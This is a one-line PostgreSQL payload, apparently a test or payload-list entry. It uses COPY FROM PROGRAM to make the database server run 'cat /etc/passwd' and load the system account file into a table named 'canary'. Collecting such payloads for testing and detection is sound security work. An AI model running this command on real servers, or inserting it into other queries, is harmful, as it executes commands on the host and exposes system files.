COPY canary FROM PROGRAM 'cat /etc/passwd'
